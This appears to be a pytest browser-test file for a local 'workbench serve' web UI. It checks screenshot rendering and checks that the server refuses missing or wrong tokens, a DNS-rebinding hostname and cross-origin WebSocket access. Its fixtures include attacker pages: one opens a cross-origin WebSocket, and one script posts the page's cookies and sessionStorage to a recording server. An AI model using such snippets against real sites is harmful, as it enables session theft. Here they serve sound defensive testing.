"""`workbench serve` in a real browser: headless Chromium (Debian's `chromium`) loads the
served workbench, walks the tree with keys, steps a phase and takes a screenshot; and it is
refused without the token, with a wrong one, under a rebound DNS name, and from another site
while the reviewer is signed in.

Skipped, with the reason in the summary, where Chromium is not installed (`.ci/run` installs
it when it runs as root: `apt-get install chromium fonts-noto-color-emoji`).
"""

from __future__ import annotations

import asyncio
import contextlib
import functools
import http.server
import io
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import aiohttp
import pytest
from PIL import Image, ImageChops

from tests.serve.browser import Browser, Page, find_chromium
from tests.serve.helpers import Served, marked_processes, served

CHROMIUM = find_chromium()
if CHROMIUM is None:
    pytest.skip(
        "no chromium: install Debian's `chromium` and `fonts-noto-color-emoji` "
        "(.ci/run does when it runs as root) to run the browser tests",
        allow_module_level=True,
    )

pytestmark = [pytest.mark.slow, pytest.mark.timeout(120)]

SERVE = [sys.executable, "-m", "workbench", "serve"]
REBOUND = "rebind.test"
"""A name the browser resolves to 127.0.0.1, as an attacker's DNS would after rebinding."""


@pytest.fixture(scope="module")
def server() -> Iterator[Served]:
    with served(SERVE) as running:
        yield running


def open_browser() -> Browser:
    assert CHROMIUM is not None
    return Browser(CHROMIUM, extra_flags=(f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1",))


def card_box(page: Page, title: str) -> tuple[int, int, int, int]:
    """``(top, left, bottom, right)`` cells of the card whose top border shows ``title``."""
    lines = page.screen_text().splitlines()
    top = next(row for row, line in enumerate(lines) if "╭" in line and title in line)
    bottom = next(row for row in range(top, len(lines)) if "╰" in lines[row])
    cells = page.terminal.buffer[top]
    columns = [column for column in range(page.terminal.columns) if cells[column].data in "╭╮"]
    return top, columns[0], bottom, columns[-1]


def ink_agreement(png: bytes, page: Page, box: tuple[int, int, int, int]) -> tuple[float, int]:
    """How often the screenshot has ink exactly in the cells where the terminal has a
    character, over the card; and how many cells have ink. A blank, stale or misplaced image
    scores low; the card the browser received, drawn where it belongs, scores high."""
    image = Image.open(io.BytesIO(png)).convert("RGB")
    left, top, width, height = page.terminal_box()
    cell_w, cell_h = width / page.terminal.columns, height / page.terminal.lines
    first_row, first_column, last_row, last_column = box
    area = (
        round(left + first_column * cell_w),
        round(top + first_row * cell_h),
        round(left + (last_column + 1) * cell_w),
        round(top + (last_row + 1) * cell_h),
    )
    region = image.crop(area)
    background = max(region.getcolors(1 << 20) or [(0, (0, 0, 0))])[1]
    # Ink: pixels clearly unlike the card's background, as a black-and-white mask.
    difference = ImageChops.difference(region, Image.new("RGB", region.size, background))
    ink = difference.convert("L").point(lambda value: 255 if value > 40 else 0)
    agree = total = inked = 0
    buffer = page.terminal.buffer
    for row in range(first_row, last_row + 1):
        for column in range(first_column, last_column + 1):
            x0 = left + column * cell_w - area[0]
            y0 = top + row * cell_h - area[1]
            cell = ink.crop((round(x0), round(y0), round(x0 + cell_w), round(y0 + cell_h)))
            has_ink = cell.histogram()[255] / (cell.width * cell.height) > 0.02
            char = buffer[row][column].data
            # A wide character's second cell is empty in the buffer but drawn on.
            has_char = char.strip() != "" or (
                char == "" and column > 0 and buffer[row][column - 1].data.strip() != ""
            )
            inked += has_ink
            agree += has_ink == has_char
            total += 1
    return agree / total, inked


def test_a_reviewer_walks_the_tree_steps_a_phase_and_sees_the_card(
    server: Served, tmp_path: Path
) -> None:
    """Screenshot: the Local System listFiles card, in its executing phase (a placeholder)."""
    browser = open_browser()
    try:
        page = browser.new_page(1200, 800)
        page.goto(server.url)
        page.wait_for_text("Calculated:")  # the first tool's card
        assert page.evaluate("location.search") == ""  # the token left the address bar
        assert page.evaluate("document.cookie") == ""  # and sits in no cookie
        assert page.responses["/"] == 200
        page.wait_until("document.body.classList.contains('-first-byte')")
        time.sleep(0.3)
        first_png = page.screenshot()  # the Calculator's card, for contrast
        page.focus_terminal()
        page.move_cursor_to(
            "src-folder", most=60
        )  # Local System › listFiles › src-folder (below the agents' tools)
        page.wait_for_text("Listed: src")
        page.press("[")  # one phase back: the call is executing
        page.wait_for_text("Listing: src")
        time.sleep(0.3)  # one more frame, so the pixels have caught up with the bytes
        png = page.screenshot()
        (tmp_path / "served.png").write_bytes(png)

        image = Image.open(io.BytesIO(png)).convert("RGB")
        colours = image.getcolors(1 << 20) or []
        dominant = max(count for count, _ in colours) / (image.width * image.height)
        assert len(colours) > 200 and dominant < 0.9, f"blank? see {tmp_path / 'served.png'}"
        box = card_box(page, "Local System · listFiles")
        agreement, inked = ink_agreement(png, page, box)
        assert inked > 150, f"an empty card? see {tmp_path / 'served.png'}"
        assert agreement > 0.9, f"the card is not what was drawn ({agreement:.2f}): {tmp_path}"
        # The check tells cards apart: the first screenshot (another tool's card) fails it.
        before, _ = ink_agreement(first_png, page, box)
        assert before < agreement - 0.1, (before, agreement)
        assert len(marked_processes(server.mark)) == 1 + 2  # the server; the leader and the app
    finally:
        browser.close()
    # The browser is gone: so is its session, and only the server is left.
    assert wait_until_gone_but(server, 15) == [server.process.pid]


def wait_until_gone_but(server: Served, timeout: float) -> list[int]:
    deadline = time.monotonic() + timeout
    while len(alive := marked_processes(server.mark)) > 1 and time.monotonic() < deadline:
        time.sleep(0.1)
    return alive


ATTACK = """<!doctype html><title>waiting</title><script>
const socket = new WebSocket("ws://127.0.0.1:{port}/ws?width=80&height=24");
socket.onopen = () => {{ document.title = "OPENED"; }};
socket.onerror = () => {{ document.title = "REFUSED"; }};
</script>"""


@contextlib.contextmanager
def attacker_site(directory: Path, port: int) -> Iterator[str]:
    """Another web server on this machine, one port over: same site, another origin."""
    (directory / "attack.html").write_text(ATTACK.format(port=port))
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(directory))
    site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=site.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{site.server_address[1]}/attack.html"
    finally:
        site.shutdown()
        site.server_close()


def test_the_browser_is_refused_without_the_token_or_from_elsewhere(
    server: Served, tmp_path: Path
) -> None:
    browser = open_browser()
    try:
        page = browser.new_page(800, 600)
        body = "document.body ? document.body.innerText : ''"
        cases = [
            (f"{server.base}/", 200, "needs its token"),  # the page, which connects nothing
            (f"{server.base}/?token=not-the-token", 403, "wrong token"),
            # DNS rebinding: the attacker's name, resolving to 127.0.0.1, even with the token.
            (f"http://{REBOUND}:{server.port}/?token={server.token}", 421, "not one this"),
        ]
        for url, status, says in cases:
            page.goto(url)
            page.wait_until(f"({body}).includes({says!r})", timeout=15)
            page.pump()
            assert page.responses["/"] == status
        assert page.websocket_urls == []
        # Signed in, the reviewer visits another site on this machine.
        page.goto(server.url)
        page.wait_until("document.body.classList.contains('-first-byte')", timeout=30)
        before = server.stderr_so_far()
        with attacker_site(tmp_path, server.port) as attack:
            evil = browser.new_page(800, 600)
            evil.goto(attack)
            # Not "!== 'waiting'": about:blank, before the navigation, has no title either.
            evil.wait_until("['OPENED', 'REFUSED'].includes(document.title)", timeout=15)
            assert evil.evaluate("document.title") == "REFUSED"
        log = before + server.stderr_so_far()
        assert "refused GET /ws: foreign origin" in log
        # A tab that kept a token the server no longer takes (it restarted): a clear message.
        page.evaluate("sessionStorage.setItem('workbench-token', 'from-before'); location.reload()")
        page.wait_until("document.body.classList.contains('-refused')", timeout=30)
        assert "refused this tab's session" in page.evaluate(body)
        assert "refused GET /ws/…: wrong token" in server.stderr_so_far()
    finally:
        browser.close()
    assert wait_until_gone_but(server, 15) == [server.process.pid]


LOOKOUT = """<!doctype html><title>lookout</title><script>
fetch("/report", {{method: "POST", body: JSON.stringify({{
  cookie: document.cookie, storage: JSON.stringify(sessionStorage)
}})}}).then(() => {{ document.title = "REPORTED"; }});
</script>"""


class Recorder(http.server.BaseHTTPRequestHandler):
    """Another site on this machine that keeps every header a browser sent it, and what its
    page could read (cookies, session storage) once there."""

    received: list[dict[str, str]]

    def do_GET(self) -> None:
        self.received.append(dict(self.headers.items()))
        self._answer(LOOKOUT.format().encode())

    def do_POST(self) -> None:
        self.received.append(dict(self.headers.items()))
        length = int(self.headers.get("Content-Length", "0"))
        self.received.append({"page-read": self.rfile.read(length).decode("utf-8", "replace")})
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextlib.contextmanager
def recording_site() -> Iterator[tuple[str, list[dict[str, str]]]]:
    """Another web server on 127.0.0.1 (its own port): what it received, as it comes."""
    received: list[dict[str, str]] = []
    handler = type("Recording", (Recorder,), {"received": received})
    site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=site.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{site.server_address[1]}/", received
    finally:
        site.shutdown()
        site.server_close()


async def opens_a_session(server: Served, value: str) -> bool:
    """Whether a plain client (any headers it likes) opens a session with ``value``: as a
    cookie, as the token in a WebSocket's path, or as a Cookie header of its own."""
    origin = {"Origin": server.base}
    attempts = [
        (f"{server.base}/ws", {**origin, "Cookie": value}),
        (f"{server.base}/ws", {**origin, "Cookie": f"workbench-session-{server.port}={value}"}),
        (f"{server.base}/ws/{quote(value, safe='')}", origin),
    ]
    async with aiohttp.ClientSession() as client:
        for url, headers in attempts:
            try:
                ws = await client.ws_connect(url + "?width=80&height=24", headers=headers)
            except aiohttp.WSServerHandshakeError:
                continue
            await ws.close()
            return True
    return False


def test_another_port_on_this_machine_gets_nothing_that_opens_a_session(server: Served) -> None:
    """Cookies ignore ports: whatever the browser keeps for 127.0.0.1 it sends to every port
    there. Signed in, the reviewer's tab goes to another local server: nothing that server
    receives, nor anything its page can read, opens a session. The tab keeps the token: a
    reload, and coming back, reconnect; a new tab is told to open the printed URL."""
    connected = "document.body.classList.contains('-first-byte')"
    browser = open_browser()
    try:
        page = browser.new_page(800, 600)
        page.goto(server.url)
        page.wait_until(connected, timeout=60)
        page.evaluate("location.reload()")
        page.wait_until(
            f"performance.getEntriesByType('navigation')[0].type === 'reload' && {connected}",
            timeout=60,
        )
        with recording_site() as (elsewhere, received):
            page.goto(elsewhere)
            page.wait_until("document.title === 'REPORTED'", timeout=15)
            fresh = browser.new_page(800, 600)  # and a tab of its own on that site
            fresh.goto(elsewhere)
            fresh.wait_until("document.title === 'REPORTED'", timeout=15)
        page.goto(f"{server.base}/")  # back to the workbench, in the same tab
        page.wait_until(f"location.pathname === '/' && {connected}", timeout=60)
        values = [value for headers in received for value in headers.values()]
        cookies = [
            part.strip()
            for headers in received
            for part in headers.get("Cookie", "").split(";")
            if part.strip()
        ]
        candidates = set(values + cookies + [cookie.partition("=")[2] for cookie in cookies])
        opened = [value for value in candidates if asyncio.run(opens_a_session(server, value))]
        hidden = [value.replace(server.token, "<token>") for value in opened]
        assert not opened, f"another port's server opened a session with {hidden}"
        carried = [
            name for headers in received for name, value in headers.items() if server.token in value
        ]
        assert not carried, f"the token reached another port in {carried}"
        # A tab of its own on the workbench has no token: it says so and connects nothing.
        stranger = browser.new_page(800, 600)
        stranger.goto(f"{server.base}/")
        stranger.wait_until("document.body.innerText.includes('needs its token')", timeout=15)
        stranger.pump()
        assert stranger.websocket_urls == []
    finally:
        browser.close()
    assert wait_until_gone_but(server, 15) == [server.process.pid]
